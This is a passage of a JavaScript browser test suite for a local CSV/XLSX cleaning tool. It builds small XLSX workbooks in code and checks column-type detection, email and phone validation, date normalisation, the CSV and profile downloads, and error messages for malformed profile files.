    assert.match(reading.at(-1).text, new RegExp(`· ${rows.toLocaleString('en')} rows · 100 %$`), 'the row count is shown');
    const stages = log.map((e) => e.text).filter((t) => !t.startsWith('Reading'));
    assert.ok(stages.some((t) => /^Checking values — \d+ %$/.test(t)), `the validation stage is shown: ${JSON.stringify(stages)}`);
    assert.match(await page.textContent('#status'), /^Done — /);
    // Throttled: no more than one message per ~100 ms, plus one per stage change.
    assert.ok(count <= Math.ceil(elapsed / 90) + 6, `${count} progress messages in ${elapsed} ms is not throttled`);
    console.log(`# ${(buffer.length / 1e6).toFixed(1)} MB, ${rows} rows: ${count} progress messages, ${reading.length} reading statuses, ${elapsed} ms, shown as ${r.texts.time}`);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

// ------------------------------------------------------------------ spreadsheets, types, issues, profiles

const CRC_TABLE = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c >>> 0;
  }
  return table;
})();

/** CRC-32 (ISO 3309, as ZIP uses it). */
function crc32(bytes) {
  let c = 0xffffffff;
  for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
assert.equal(crc32(Buffer.from('123456789')), 0xcbf43926, 'the CRC-32 check value');

/** A ZIP archive of `entries` ([name, text]), stored uncompressed: local headers, central directory, end record. */
function zipStored(entries) {
  const parts = [];
  const central = [];
  let offset = 0;
  for (const [name, text] of entries) {
    const nameBytes = Buffer.from(name, 'utf8');
    const data = Buffer.from(text, 'utf8');
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0); // local file header
    local.writeUInt16LE(20, 4); // version needed: 2.0
    local.writeUInt16LE(0x0800, 6); // flags: UTF-8 names
    local.writeUInt16LE(0, 8); // method: stored
    local.writeUInt16LE(0, 10); // time
    local.writeUInt16LE(0x21, 12); // date: 1980-01-01
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    parts.push(local, nameBytes, data);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0); // central directory header
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(0x0800, 8);
    entry.writeUInt16LE(0, 10);
    entry.writeUInt16LE(0, 12);
    entry.writeUInt16LE(0x21, 14);
    entry.writeUInt32LE(crc, 16);
    entry.writeUInt32LE(data.length, 20);
    entry.writeUInt32LE(data.length, 24);
    entry.writeUInt16LE(nameBytes.length, 28);
    entry.writeUInt32LE(offset, 42);
    central.push(entry, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); // end of central directory
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, directory, end]);
}

const xmlText = (s) => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** A minimal XLSX workbook: `sheets` is [[name, rows]]; strings are inline, numbers are numbers. */
function xlsx(sheets) {
  const SS = 'http://schemas.openxmlformats.org';
  const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
  const column = (i) => String.fromCharCode(65 + i); // A..Z is plenty here
  const sheetXml = (rows) =>
    `${head}<worksheet xmlns="${SS}/spreadsheetml/2006/main"><sheetData>` +
    rows
      .map(
        (row, r) =>
          `<row r="${r + 1}">` +
          row
            .map((v, c) =>
              typeof v === 'number'
                ? `<c r="${column(c)}${r + 1}"><v>${v}</v></c>`
                : `<c r="${column(c)}${r + 1}" t="inlineStr"><is><t>${xmlText(v)}</t></is></c>`,
            )
            .join('') +
          '</row>',
      )
      .join('') +
    '</sheetData></worksheet>';
  return zipStored([
    [
      '[Content_Types].xml',
      `${head}<Types xmlns="${SS}/package/2006/content-types">` +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
        sheets
          .map(
            (_, i) =>
              `<Override PartName="/xl/worksheets/sheet${i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`,
          )
          .join('') +
        '</Types>',
    ],
    [
      '_rels/.rels',
      `${head}<Relationships xmlns="${SS}/package/2006/relationships">` +
        `<Relationship Id="rId1" Type="${SS}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>` +
        '</Relationships>',
    ],
    [
      'xl/workbook.xml',
      `${head}<workbook xmlns="${SS}/spreadsheetml/2006/main" xmlns:r="${SS}/officeDocument/2006/relationships"><sheets>` +
        sheets.map(([name], i) => `<sheet name="${xmlText(name)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('') +
        '</sheets></workbook>',
    ],
    [
      'xl/_rels/workbook.xml.rels',
      `${head}<Relationships xmlns="${SS}/package/2006/relationships">` +
        sheets
          .map(
            (_, i) =>
              `<Relationship Id="rId${i + 1}" Type="${SS}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`,
          )
          .join('') +
        '</Relationships>',
    ],
    ...sheets.map(([, rows], i) => [`xl/worksheets/sheet${i + 1}.xml`, sheetXml(rows)]),
  ]);
}



/** Clicks a download link and returns { name, text }. */
async function downloadText(page, selector) {
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click(selector)]);
  return { name: dl.suggestedFilename(), text: (await readFile(await dl.path())).toString('utf8') };
}

/** Clicks `selector` (a "Clean again" button) and waits for that run to end. */
async function runAgain(page, selector) {
  const run = Number(await page.getAttribute('body', 'data-run'));
  await page.click(selector);
  await page.waitForFunction(
    (n) => Number(document.body.dataset.run) === n && ['done', 'error'].includes(document.body.dataset.state),
    run + 1,
    { polling: 50 },
  );
  return readResult(page);
}

/** The column table: [{ name, type, confidence (text), warnings }]. */
function readColumns(page) {
  return page.evaluate(() =>
    [...document.querySelectorAll('#columns tr')].map((tr) => ({
      name: tr.dataset.column,
      type: tr.querySelector('select').value,
      label: tr.querySelector('label').textContent,
      confidence: tr.querySelector('.confidence').textContent.trim(),
      warnings: tr.querySelector('.column-notes').textContent.trim(),
    })),
  );
}

/** The issues table: [{ code, severity, count, text }], in the order shown. */
function readIssues(page) {
  return page.evaluate(() =>
    [...document.querySelectorAll('#issues tr')].map((tr) => ({
      code: tr.querySelector('.issue-code').textContent,
      severity: tr.querySelector('.badge').textContent,
      count: Number(tr.querySelector('.num').textContent.replaceAll(',', '')),
      text: tr.textContent,
    })),
  );
}

/** Chooses a profile file in "Load profile" and waits until it is either in use or refused. */
async function loadProfile(page, name, text) {
  await page.evaluate(() => {
    document.getElementById('error').replaceChildren();
    document.getElementById('profile-status').textContent = '';
  });
  await page.setInputFiles('#profile-file', { name, mimeType: 'application/json', buffer: Buffer.from(text) });
  await page.waitForFunction(
    () => document.getElementById('error').textContent !== '' || /^Using /.test(document.getElementById('profile-status').textContent),
    undefined,
    { polling: 50 },
  );
  return {
    error: (await page.textContent('#error')).trim(),
    status: (await page.textContent('#profile-status')).trim(),
  };
}

/** Contacts with a mistyped email domain, an invalid email, Chinese national mobiles and mixed date formats. */
const MIXED_CSV = [
  'name,email,phone,signup,note,fax',
  'Ann Smith,ann@gmial.com,13800138000,2024/1/5,VIP,',
  'Bob Lee,not-an-email,138 0013 8001,2024年1月5日,call back,',
  '王芳,wang.fang@example.cn,139 0013 9000,2024-02-03,likes email,',
  'Cid Wu,cid@example.com,13700137000,2024-3-9,n/a,',
].join('\n') + '\n';
const mixedFile = () => ({ name: 'mixed.csv', mimeType: 'text/csv', buffer: Buffer.from(MIXED_CSV, 'utf8') });

test('an XLSX workbook is cleaned: format and sheet shown, long numbers kept whole, another sheet by name', { timeout: 30_000 }, async () => {
  const book = xlsx([
    ['Contacts', [['name', 'phone', 'city'], ['Ann Lee', 13800138000, '北京'], ['Bob Stone', 13900139000, 'London'], ['Cid Wu', 13700137000, '上海']]],
    ['Archive', [['name', 'email'], ['Old One', 'old@example.com']]],
  ]);
  const file = { name: 'contacts.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: book };
  const { page, errors, close } = await open();
  try {
    let r = await runFile(page, file);
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.format, 'xlsx');
    assert.match(r.texts.format, /^XLSX\s*Sheet “Contacts”$/, 'format and sheet are shown');
    assert.match(await page.textContent('#summary-meta'), /XLSX · sheet “Contacts”/);
    assert.equal(r.fields.rows_in, '3');
    assert.equal(r.fields.rows_out, '3');
    assert.equal(r.fields.columns, '3');
    assert.ok(Number(r.fields.table_bytes) > 0, 'table memory is reported');
    assert.match(r.texts.table_bytes, /^\d+\.\d+ (KB|MB)$/);
    assert.equal(r.download.name, 'contacts.cleaned.csv');
    const { bytes } = await download(page);
    const text = bytes.toString('utf8');
    assert.ok(text.includes('13800138000'), text);
    assert.doesNotMatch(text, /1\.38|E\+?10/i, 'the number is not in scientific notation');
    assert.equal(text, '\uFEFFname,phone,city\nAnn Lee,13800138000,北京\nBob Stone,13900139000,London\nCid Wu,13700137000,上海\n');

    // The other sheet, by name.
    await page.click('#options summary');
    await page.fill('#opt-sheet', 'Archive');
    r = await runAgain(page, '#again');
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.rows_in, '1');
    assert.equal(await page.getAttribute('[data-field="format"]', 'data-sheet'), 'Archive');
    assert.equal((await download(page)).bytes.toString('utf8'), 'name,email\nOld One,old@example.com\n');

    // A sheet that is not there: the error names the ones that are.
    await page.fill('#opt-sheet', 'Nope');
    r = await runAgain(page, '#again');
    assert.equal(r.state, 'error');
    assert.match(r.error, /no sheet named "Nope".*"Contacts", "Archive"/);
    await page.fill('#opt-sheet', '');
    await expectStillUsable(page, 'after-xlsx');
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('types, issues, changes and the profile: emails, Chinese mobiles with region CN, mixed dates', { timeout: 45_000 }, async () => {
  const { page, errors, close } = await open();
  try {
    await page.click('#options summary');
    await page.selectOption('#opt-region', 'CN');
    const r = await runFile(page, mixedFile());
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.rows_in, '4');

    // The column table: detected types with their confidence, the empty column's warning.
    const columns = await readColumns(page);
    assert.deepEqual(columns.map((c) => c.name), ['name', 'email', 'phone', 'signup', 'note', 'fax']);
    const typeOf = Object.fromEntries(columns.map((c) => [c.name, c.type]));
    assert.equal(typeOf.email, 'email');
    assert.ok(['phone', 'mobile'].includes(typeOf.phone), typeOf.phone);
    assert.equal(typeOf.signup, 'date');
    assert.equal(typeOf.note, 'text');
    for (const c of columns) assert.match(c.confidence, /^\d{1,3} %$/, `${c.name} shows its confidence`);
    assert.equal(columns[1].label, 'Type of column email');
    assert.match(columns.find((c) => c.name === 'fax').warnings, /empty/i);
    const options = await page.$$eval('#columns select[data-column="email"] option', (os) => os.map((o) => o.value));
    assert.equal(options.length, 24, 'every column type can be chosen');
    for (const t of ['full_name', 'mobile', 'landline', 'postal_code', 'cn_id', 'currency', 'record_id', 'text']) assert.ok(options.includes(t), t);

    // Issues by code, most frequent first, errors told apart from warnings.
    const issues = await readIssues(page);
    const byCode = Object.fromEntries(issues.map((i) => [i.code, i]));
    assert.equal(byCode['email.domain_typo']?.count, 1, JSON.stringify(issues));
    assert.equal(byCode['email.domain_typo'].severity, 'Warning');
    assert.match(byCode['email.domain_typo'].text, /gmial\.com/);
    assert.equal(byCode['email.missing_at']?.count, 1);
    assert.equal(byCode['email.missing_at'].severity, 'Error');
    assert.ok(!byCode['phone.no_region'], 'the default region reads the national numbers');
    const counts = issues.map((i) => i.count);
    assert.deepEqual(counts, [...counts].sort((a, b) => b - a));
    const total = counts.reduce((a, b) => a + b, 0);
    assert.equal(r.fields.issues, String(total));
    assert.equal(await page.textContent('#issues-count'), `(${total})`);
    assert.equal(r.fields.rows_stale, '0');
    assert.match(await page.textContent('#issues-summary'), /1 error .* 1 warning/);

    // The cleaned file: international phone numbers and ISO dates.
    const cleaned = (await download(page)).bytes.toString('utf8');
    const rows = csvObjects(cleaned);
    assert.deepEqual(rows.map((x) => x.phone), ['+8613800138000', '+8613800138001', '+8613900139000', '+8613700137000']);
    assert.deepEqual(rows.map((x) => x.signup), ['2024-01-05', '2024-01-05', '2024-02-03', '2024-03-09']);
    assert.equal(rows[0].email, 'ann@gmial.com', 'typos are reported, not fixed, unless the profile says so');

    // No rows were rejected: that download is disabled and says why.
    assert.equal(await page.getAttribute('#download-rejected', 'aria-disabled'), 'true');
    assert.equal(await page.getAttribute('#download-rejected', 'href'), null);
    assert.match(await page.textContent('#download-rejected-desc'), /No rows were rejected/);

    // The issues CSV has the typo with its suggestion.
    const issuesCsv = await downloadText(page, '#download-issues');
    assert.equal(issuesCsv.name, 'mixed.issues.csv');
    const typo = csvObjects(issuesCsv.text).find((i) => i.code === 'email.domain_typo');
    assert.ok(typo, issuesCsv.text);
    assert.equal(typo.source_row, '1');
    assert.equal(typo.column, 'email');
    assert.equal(typo.severity, 'warning');
    assert.equal(typo.value, 'ann@gmial.com');
    assert.equal(typo.suggestion, 'ann@gmail.com');
    assert.ok(typo.message_zh.length > 0, 'a Chinese message too');

    // The changes CSV has each phone change with its rule.
    const changesCsv = await downloadText(page, '#download-changes');
    assert.equal(changesCsv.name, 'mixed.changes.csv');
    const changes = csvObjects(changesCsv.text);
    const phone = changes.find((c) => c.column === 'phone' && c.source_row === '1');
    assert.ok(phone, changesCsv.text);
    assert.equal(phone.before, '13800138000');
    assert.equal(phone.after, '+8613800138000');
    assert.ok(phone.rule, 'the rule is named');
    assert.ok(changes.some((c) => c.before === '2024年1月5日' && c.after === '2024-01-05'), changesCsv.text);
    assert.equal(String(changes.length), r.fields.cells_changed);

    // The profile as run: every column's type, the region chosen.
    const profileJson = await downloadText(page, '#download-profile');
    assert.equal(profileJson.name, 'mixed.profile.json');
    const profile = JSON.parse(profileJson.text);
    assert.equal(profile.version, 1);
    assert.ok(Array.isArray(profile.columns));
    assert.deepEqual(profile.columns.map((c) => [c.name, c.type]), columns.map((c) => [c.name, c.type]));
    assert.equal(profile.validate.default_region, 'CN');

    // The note by the downloads: a BOM for the Chinese text; no formulas here.
    assert.equal(await page.getAttribute('#download-note', 'data-bom'), 'true');
    assert.match(await page.textContent('#download-note'), /byte order mark \(BOM\).*Excel/);
    assert.match(await page.textContent('#download-note'), /No cell looked like a spreadsheet formula/);

    assert.equal(await page.locator('[style]').count(), 0, 'the results use no inline styles either');

    // Screenshots of the results, wide and narrow, with no horizontal scrolling.
    await mkdir(SCREENSHOTS, { recursive: true });
    await page.screenshot({ path: path.join(SCREENSHOTS, 'results.png'), fullPage: true });
    await page.screenshot({ path: path.join(SCREENSHOTS, 'results-1280x800.png') });
    await page.locator('#issues-block').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(SCREENSHOTS, 'results-issues-1280x800.png') });
    for (const width of [768, 390, 320]) {
      await page.setViewportSize({ width, height: 800 });
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.equal(overflow, 0, `no horizontal overflow at ${width} px`);
    }
    await page.setViewportSize({ width: 390, height: 844 });
    await page.screenshot({ path: path.join(SCREENSHOTS, 'results-narrow.png'), fullPage: true });
    assert.deepEqual(await page.evaluate(() => window.__cspViolations), []);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('changing a column type and cleaning again checks the column as that type', { timeout: 30_000 }, async () => {
  const { page, errors, close } = await open();
  try {
    let r = await runFile(page, mixedFile());
    assert.equal(r.state, 'done', r.error);
    const before = await readIssues(page);
    const typesBefore = (await readColumns(page)).filter((c) => c.name !== 'note').map((c) => c.type);
    assert.ok(before.some((i) => i.code === 'phone.no_region'), 'without a region the national numbers are reported');
    assert.equal(await page.textContent('#columns-again'), 'Clean again');

    // Say the note column holds emails.
    await page.selectOption('#columns select[data-column="note"]', 'email');
    assert.equal(await page.getAttribute('#columns tr[data-column="note"]', 'class'), 'is-changed');
    assert.equal(await page.textContent('#columns-again'), 'Clean again with the new type');
    assert.equal(await page.textContent('#columns-changed'), '1 type changed.');
    r = await runAgain(page, '#columns-again');
    assert.equal(r.state, 'done', r.error);

    const columns = await readColumns(page);
    const note = columns.find((c) => c.name === 'note');
    assert.equal(note.type, 'email');
    assert.equal(note.confidence, 'set', 'the type came from the profile this time');
    assert.deepEqual(columns.filter((c) => c.name !== 'note').map((c) => c.type), typesBefore, 'the other types are kept');
    const after = await readIssues(page);
    const count = (list, code) => list.find((i) => i.code === code)?.count ?? 0;
    assert.ok(count(after, 'email.missing_at') > count(before, 'email.missing_at'), JSON.stringify(after));
    assert.ok(Number(r.fields.issues) > before.reduce((a, i) => a + i.count, 0));
    const issues = csvObjects((await downloadText(page, '#download-issues')).text);
    const noteIssues = issues.filter((i) => i.column === 'note');
    assert.equal(noteIssues.length, 4, JSON.stringify(noteIssues));
    assert.ok(noteIssues.every((i) => i.code.startsWith('email.') && i.severity === 'error'));
    const profile = JSON.parse((await downloadText(page, '#download-profile')).text);
    assert.equal(profile.columns.find((c) => c.name === 'note').type, 'email');

    // The same file chosen anew starts from detection again.
    r = await runFile(page, mixedFile());
    assert.equal((await readColumns(page)).find((c) => c.name === 'note').type, 'text');
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('a profile is loaded from a file: unknown keys and bad JSON are refused with a clear message', { timeout: 30_000 }, async () => {
  const { page, requests, errors, close } = await open();
  try {
    await page.click('#options summary');
    const requestsBefore = requests.length;

    // A misspelt key (fix_email_typo for fix_email_typos) is named.
    let p = await loadProfile(page, 'typo.profile.json', JSON.stringify({ version: 1, validate: { default_region: 'CN', fix_email_typo: true } }));
    assert.match(p.error, /typo\.profile\.json/);
    assert.match(p.error, /unknown field `fix_email_typo`/);
    assert.match(p.status, /^None loaded/);
    assert.equal(await page.isHidden('#profile-clear'), true);
    await mkdir(SCREENSHOTS, { recursive: true });
    await page.locator('.picker').screenshot({ path: path.join(SCREENSHOTS, 'profile-error.png') });

    // So is one in a column.
    p = await loadProfile(page, 'col.profile.json', JSON.stringify({ version: 1, columns: [{ name: 'note', type: 'email', requird: true }] }));
    assert.match(p.error, /unknown field `requird`/);

    // A value the core refuses: its own message is shown.
    p = await loadProfile(page, 'type.profile.json', JSON.stringify({ version: 1, columns: [{ name: 'note', type: 'emial' }] }));
    assert.match(p.error, /unknown variant `emial`/);

    // Not JSON at all, and JSON that is not an object.
    p = await loadProfile(page, 'broken.profile.json', '{"version": 1, "columns": [');
    assert.match(p.error, /broken\.profile\.json” was not loaded: it is not valid JSON/);
    p = await loadProfile(page, 'list.profile.json', '[1, 2]');
    assert.match(p.error, /a profile is a JSON object/);

    // The file was read locally: loading profiles made no request beyond the worker script.
    const extra = requests.slice(requestsBefore).map((r) => new URL(r.url).pathname);
    assert.ok(extra.every((u) => u === '/worker.js' || u.startsWith('/pkg/')), extra.join(' '));

    // A good run still works, without any profile.
    let r = await runFile(page, mixedFile());
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.error, '');
    assert.equal((await readColumns(page)).find((c) => c.name === 'note').type, 'text');

    // A good profile is used for the next run, and its settings show in the options.
    const good = { version: 1, validate: { default_region: 'CN', fix_email_typos: true }, columns: [{ name: 'note', type: 'email' }] };
    p = await loadProfile(page, 'good.profile.json', JSON.stringify(good, null, 2));
    assert.equal(p.error, '');
    assert.equal(p.status, 'Using good.profile.json (1 column) for every file you clean.');
    assert.equal(await page.inputValue('#opt-region'), 'CN');
    assert.equal(await page.isVisible('#profile-clear'), true);
    r = await runFile(page, mixedFile());
    assert.equal(r.state, 'done', r.error);
    const columns = await readColumns(page);
    assert.equal(columns.find((c) => c.name === 'note').type, 'email');
    assert.equal(columns.find((c) => c.name === 'note').confidence, 'set');
    const rows = csvObjects((await download(page)).bytes.toString('utf8'));
    assert.equal(rows[0].email, 'ann@gmail.com', 'the profile fixes email typos');
    assert.equal(rows[0].phone, '+8613800138000', 'the profile sets the region');

    // A Frictionless Table Schema is a profile too; the options on the page still apply to it.
    p = await loadProfile(page, 'schema.json', JSON.stringify({ fields: [{ name: 'note', type: 'string', format: 'email' }] }));
    assert.equal(p.error, '');
    assert.equal(p.status, 'Using schema.json (1 column) for every file you clean.');
    await page.selectOption('#opt-region', 'CN');
    r = await runFile(page, mixedFile());
    assert.equal(r.state, 'done', r.error);
    assert.equal((await readColumns(page)).find((c) => c.name === 'note').type, 'email');
    assert.equal(csvObjects((await download(page)).bytes.toString('utf8'))[0].phone, '+8613800138000');

    // Stop using it: detection again.
    await page.click('#profile-clear');
    assert.match(await page.textContent('#profile-status'), /^None loaded/);
    r = await runFile(page, mixedFile());
    assert.equal((await readColumns(page)).find((c) => c.name === 'note').type, 'text');
    assert.equal(csvObjects((await download(page)).bytes.toString('utf8'))[0].phone, '+8613800138000', 'the region option stays as shown');
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});
